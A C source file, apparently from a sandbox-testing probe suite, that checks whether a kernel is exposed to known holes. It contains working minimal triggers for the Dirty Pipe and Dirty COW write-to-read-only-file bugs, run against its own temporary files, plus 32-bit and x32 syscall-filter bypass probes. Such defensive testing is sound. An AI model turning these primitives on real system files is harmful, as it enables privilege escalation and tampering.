/* Holes the kernel has had, tried on files of our own; other ways to speak to it. */
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/utsname.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include "probe/probe.h"

#define NOBODY     65534
#define RACE_MS    300
#define ORIGINAL   "original"
#define X32        0x40000000L
#define NR_GETPID  39 /* x86-64 */
#define NR_GETPID_ 20 /* i386 */

/* A file of root's that we, now the user NOBODY, may only read. */
static int own_file(const char *path)
{
	int fd;

	(void)unlink(path);
	fd = open(path, O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0444);
	if (fd < 0 || write(fd, ORIGINAL, sizeof(ORIGINAL)) != sizeof(ORIGINAL))
		return -1;
	close(fd);
	if (setgid(NOBODY) < 0 || setuid(NOBODY) < 0)
		return -1;
	return open(path, O_RDONLY | O_CLOEXEC);
}

static long changed(struct attempt *a, int fd)
{
	char now[sizeof(ORIGINAL)] = "";

	if (pread(fd, now, sizeof(now), 0) == sizeof(now) && strcmp(now, ORIGINAL) == 0)
		return probe_say(a, probe_refused(EPERM), "the file is as it was");
	return probe_say(a, 0, "a file that may only be read has changed");
}

static long try_dirty_pipe(struct attempt *a)
{
	int fd = own_file("/tmp/dirty-pipe"), p[2];
	static char page[4096];
	loff_t at = 0;
	int size;

	if (fd < 0 || pipe2(p, O_CLOEXEC) < 0)
		return probe_say(a, PROBE_UNKNOWN, "could not be tried: %s", strerror(errno));
	size = fcntl(p[1], F_GETPIPE_SZ);
	for (int left = size; left > 0; left -= (int)sizeof(page))
		(void)!write(p[1], page, sizeof(page));
	for (int left = size; left > 0; left -= (int)sizeof(page))
		(void)!read(p[0], page, sizeof(page));
	if (splice(fd, &at, p[1], NULL, 1, 0) == 1)
		(void)!write(p[1], "X", 1);
	return changed(a, fd);
}

struct race {
	char *map;
	volatile bool over;
};

static void *drop_pages(void *arg)
{
	struct race *r = arg;

	while (!r->over)
		(void)madvise(r->map, 4096, MADV_DONTNEED);
	return NULL;
}

static uint64_t now_ms(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return (uint64_t)t.tv_sec * 1000 + (uint64_t)t.tv_nsec / 1000000;
}

static long try_dirty_cow(struct attempt *a)
{
	int fd = own_file("/tmp/dirty-cow"), memory = open("/proc/self/mem", O_RDWR | O_CLOEXEC);
	struct race r = { 0 };
	uint64_t end = now_ms() + RACE_MS;
	pthread_t other;

	if (fd < 0)
		return probe_say(a, PROBE_UNKNOWN, "could not be tried: %s", strerror(errno));
	if (memory < 0)
		return probe_refused(EACCES);
	r.map = mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, fd, 0);
	if (r.map == MAP_FAILED || pthread_create(&other, NULL, drop_pages, &r) != 0)
		return probe_say(a, PROBE_UNKNOWN, "could not be tried: %s", strerror(errno));
	while (now_ms() < end)
		(void)!pwrite(memory, "X", 1, (off_t)(uintptr_t)r.map);
	r.over = true;
	pthread_join(other, NULL);
	return changed(a, fd);
}

#if defined(__x86_64__)
static long try_32_bit(struct attempt *a)
{
	long got = NR_GETPID_;

	(void)a;
	__asm__ volatile("int $0x80"
			 : "+a"(got)
			 :
			 : "memory", "r8", "r9", "r10", "r11");
	return got > 0 ? 0 : probe_refused(got < 0 ? (int)-got : EPERM);
}

static long try_x32(struct attempt *a)
{
	(void)a;
	return syscall(X32 | NR_GETPID);
}
#endif

static long try_core_dump(struct attempt *a)
{
	pid_t pid = fork();
	int status = 0;

	if (pid == 0) {
		signal(SIGABRT, SIG_DFL);
		abort();
	}
	if (pid < 0 || waitpid(pid, &status, 0) < 0)
		return -1;
	if (WIFSIGNALED(status) && WCOREDUMP(status))
		return probe_say(a, 0, "a dump was made by the host's rules");
	return probe_say(a, probe_refused(EPERM), "no dump was made");
}

static long try_release(struct attempt *a)
{
	struct utsname u;

	if (uname(&u) < 0)
		return -1;
	if (strcmp(u.release, a->target->release) == 0)
		return probe_say(a, 0, "the kernel is the host's, %s", u.release);
	return probe_say(a, probe_refused(EXDEV), "another kernel answers: %s", u.release);
}

/* clang-format off */
const struct probe probe_kernel[] = {
	{ "dirty-pipe", "CVE-2022-0847 (Dirty Pipe)", "write to the page cache through a pipe",
	  try_dirty_pipe },
	{ "dirty-cow", "CVE-2016-5195 (Dirty COW)", "write to a private mapping of a file",
	  try_dirty_cow },
#if defined(__x86_64__)
	{ "abi-32-bit", "a filter for one ABI only: CVE-2009-0835", "int 0x80", try_32_bit,
	  JUDGE_ANY, "gVisor's kernel answers" },
	{ "abi-x32", "a filter for one ABI only", "a system call with the x32 bit", try_x32,
	  JUDGE_STRICT, "gVisor's kernel answers" },
#endif
	{ "core-dump", "the host's core_pattern runs as its root: CVE-2025-4598",
	  "die with a core dump", try_core_dump, JUDGE_ANY, "gVisor makes none on the host" },
	{ "host-kernel", "CVE-2026-43499 (GhostLock): only another kernel helps",
	  "find the host's kernel", try_release, .gvisor_only = true },
	{ NULL },
};
/* clang-format on */
